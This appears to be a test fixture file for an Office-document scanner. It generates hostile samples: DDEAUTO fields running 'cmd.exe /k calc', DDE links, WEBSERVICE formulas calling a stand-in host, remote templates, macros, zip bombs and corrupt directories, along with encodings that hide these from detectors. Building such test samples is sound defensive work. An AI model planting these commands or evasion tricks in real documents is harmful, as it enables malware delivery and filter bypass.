import { compound, excelRecord, powerPointRecord } from '../compound.ts'
import { docx, field, picture } from '../office.ts'
import { office, oldOffice } from '../samples.ts'

const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const relations = (type: string, target: string, mode = '') =>
  `<Relationships><Relationship Id="r1" Type="${type}" Target="${target}"${mode}/></Relationships>`
const externalRelation = (type: string) =>
  docx(['a'], '', [{ id: 'r1', type, target: 'https://host.example/a', outside: true }])
const object = () => oldOffice('\x01Ole10Native')
const run = (text: string) => `<w:r><w:instrText>${text}</w:instrText></w:r>`
const begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
const DOCUMENT = 'word/_rels/document.xml.rels'
const WORKBOOK = 'xl/_rels/workbook.xml.rels'

type Made = readonly [kind: 'docx' | 'xlsx' | 'pptx' | 'doc' | 'xls' | 'ppt', bytes: () => Buffer]
type Part = string | Uint8Array

/** A document in the new format with this part. */
const having = (kind: 'docx' | 'xlsx' | 'pptx', name: string, part: Part | (() => Part)): Made => [
  kind,
  () => office(kind, { [name]: typeof part === 'function' ? part() : part }),
]
const sheet = (formula: string) => having('xlsx', 'xl/worksheets/sheet1.xml', `<c><f>${formula}</f></c>`)
/** A document in the old format with these streams. */
const old = (kind: 'doc' | 'xls' | 'ppt', streams: Record<string, Uint8Array>): Made => [
  kind,
  () => compound(streams),
]

export const HOSTILE_OFFICE: Record<string, Made> = {
  'a template elsewhere': ['docx', () => externalRelation('attachedTemplate')],
  'a picture elsewhere': [
    'docx',
    () =>
      docx(['a'], picture('r1'), [
        { id: 'r1', type: 'image', target: 'https://host.example/a', outside: true },
      ]),
  ],
  'a frame elsewhere': ['docx', () => externalRelation('frame')],
  'a template elsewhere, in other quotes': having(
    'docx',
    'word/_rels/settings.xml.rels',
    `<a:Relationships xmlns:a='x'><a:Relationship TargetMode = 'External' Id='r' Type='${OFFICE}/attachedTemplate' Target='https://host.example'/></a:Relationships>`,
  ),
  'a list of parts in another encoding': having(
    'docx',
    DOCUMENT,
    Buffer.from(
      `\ufeff${relations(`${OFFICE}/attachedTemplate`, 'https://host.example', ' TargetMode="External"')}`,
      'utf16le',
    ),
  ),
  'another document taken in': having('docx', DOCUMENT, relations(`${OFFICE}/aFChunk`, 'a.html')),
  'an object of another program': having(
    'docx',
    DOCUMENT,
    relations(`${OFFICE}/oleObject`, 'embeddings/a.bin'),
  ),
  'an object by any name': having('pptx', 'ppt/media/image1.png', object),
  'a control': having('docx', 'word/activeX/activeX1.xml', '<ax:ocx/>'),
  macros: having('xlsx', 'xl/vbaProject.bin', object),
  'a sheet of Excel 4 macros': having(
    'xlsx',
    WORKBOOK,
    relations('http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet', 'x/sheet1.xml'),
  ),
  'macros in a document within': having(
    'docx',
    'word/embeddings/a.xlsx',
    office('xlsx', { 'xl/vbaProject.bin': 'x' }),
  ),
  'documents within documents': having('docx', 'a.xlsx', office('xlsx', { 'b.xlsx': office('xlsx') })),
  'a field that starts a program': [
    'docx',
    () => docx(['a'], field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"')),
  ],
  'such a field in pieces': [
    'docx',
    () => docx(['a'], `<w:p>${begin}${run(' D')}${run('DE')}${run('AU&#84;O')}${run(' cmd')}</w:p>`),
  ],
  'such a field as an attribute': [
    'docx',
    () => docx(['a'], '<w:p><w:fldSimple w:instr=" DDE cmd "/></w:p>'),
  ],
  'a link to another program': having(
    'xlsx',
    'xl/externalLinks/externalLink1.xml',
    '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
  ),
  'a formula that fetches': sheet('W&#69;BSERVICE("https://host.example")'),
  'a connection to data': having('xlsx', WORKBOOK, relations(`${OFFICE}/connections`, 'connections.xml')),
  'an archive that unpacks to too much': having('xlsx', 'a.xml', () => Buffer.alloc(90 * 1024 * 1024)),
  'old macros': ['doc', () => oldOffice('WordDocument', 'Macros')],
  'old objects of other programs': ['doc', () => oldOffice('WordDocument', 'ObjectPool')],
  'an old field that starts a program': old('doc', {
    WordDocument: Buffer.from('a \x13 DDEAUTO cmd \x15', 'utf16le'),
  }),
  'an old template elsewhere': old('doc', {
    WordDocument: Buffer.alloc(64),
    '1Table': Buffer.from('a%https://host.example/a.dotm\0', 'utf16le'),
  }),
  'an old document with a password': old('doc', { WordDocument: Buffer.alloc(64).fill(1, 10, 12) }),
  'an old sheet of Excel 4 macros': old('xls', {
    Workbook: Buffer.concat([
      excelRecord(0x809, Buffer.alloc(16)),
      excelRecord(0x85, Buffer.from([0, 0, 0, 0, 2, 1, 1, 0, 65])),
    ]),
  }),
  'an old sheet of Excel 4 macros, not listed': old('xls', {
    Book: excelRecord(0x809, Buffer.from([0, 6, 0x40, 0])),
  }),
  'an old link to another program': old('xls', {
    Workbook: excelRecord(0x1ae, Buffer.from('\x01\0\x08\0\0cmd\x03/c x', 'latin1')),
  }),
  'an old workbook with a password': old('xls', { Workbook: excelRecord(0x2f, Buffer.alloc(6)) }),
  'old slides with objects': old('ppt', {
    'PowerPoint Document': powerPointRecord(
      0x3e8,
      powerPointRecord(0x409, powerPointRecord(0xfcc, Buffer.alloc(8), true), true),
      true,
    ),
  }),
  'old slides with macros': old('ppt', {
    'PowerPoint Document': powerPointRecord(
      0x3ff,
      powerPointRecord(0x400, Buffer.from([1, 0, 0, 0, 1, 0, 0, 0])),
      true,
    ),
  }),
  'a directory without end': [
    'xls',
    () => {
      const file = compound({ Workbook: Buffer.alloc(4 * 1024 * 1024) })
      const directory = file.readUInt32LE(48)
      file.writeUInt32LE(directory, 512 + directory * 4)
      return file
    },
  ],
  'a stream that leads nowhere': [
    'xls',
    () => {
      const file = compound({ Workbook: Buffer.alloc(4 * 1024 * 1024) })
      const content = file.readUInt32LE(48) + 1
      file.writeUInt32LE(0x00ffffff, 512 + content * 4)
      return file
    },
  ],
}

const relationship = (tag: string) =>
  `<x:Relationships xmlns:x='x'><${tag} Id="r" TargetMode="External" Target="https://host.example/a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></x:Relationships>`

/** A Word document with a field in pieces that are far from each other. */
const spreadAt = (position: number) => {
  const empty = (bytes: number) => '<w:r/>'.repeat(bytes / 6)
  const field = `${begin}${empty(900)}${run('D')}${empty(3000)}${run('DEAUTO cmd')}`
  return docx([], `<w:p>${empty(position)}${field}</w:p>`)
}

/**
 * Documents with a field that starts a program or loads external content, each disguised by a feature of XML.
 */
export const HOSTILE_FIELDS: Record<string, () => Buffer> = {
  'in a section of characters': () => docx([], `<w:p>${begin}${run('<![CDATA[DDEAUTO cmd]]>')}</w:p>`),
  'with a comment in it': () => docx([], `<w:p>${begin}${run('D<!-- -->DEAUTO cmd')}</w:p>`),
  'with a long attribute': () =>
    docx([], `<w:p><w:r><w:instrText xmlns:a="${'a'.repeat(400)}">DDEAUTO cmd</w:instrText></w:r></w:p>`),
  'with a sign of its end in an attribute': () =>
    docx([], `<w:p><w:r><w:instrText xmlns:a=">">DDEAUTO cmd</w:instrText></w:r></w:p>`),
  'as an attribute with much space': () => docx([], '<w:p><w:fldSimple w:instr  =  "DDE cmd"/></w:p>'),
  'by references with many zeros': () =>
    docx([], `<w:p>${begin}${run(`&#x${'0'.repeat(30)}44;DEAUTO cmd`)}</w:p>`),
  'by another prefix': () =>
    docx([], '<w:p><é:instrText xmlns:é="http://schemas.openxmlformats.org/x">DDE cmd</é:instrText></w:p>'),
  'after another field': () =>
    docx([], `<w:p>${begin}${run('PAGE ')}${begin.replace('="', '  =  "')}${run('DDEAUTO cmd')}</w:p>`),
  'whose list of parts has another prefix': () =>
    office('docx', { 'word/_rels/settings.xml.rels': relationship('x-1.a:Relationship') }),
  'whose formula has a comment in it': () =>
    office('xlsx', {
      'xl/worksheets/sheet1.xml': '<c><f>WEB<!-- -->SERVICE("https://host.example")</f></c>',
    }),
}
/** Positions at which a large part is split for reading. */
for (const bytesBefore of [600, 1200, 2400])
  HOSTILE_FIELDS[`in pieces, ${bytesBefore} bytes before a mebibyte`] = () =>
    spreadAt(1024 * 1024 - bytesBefore)
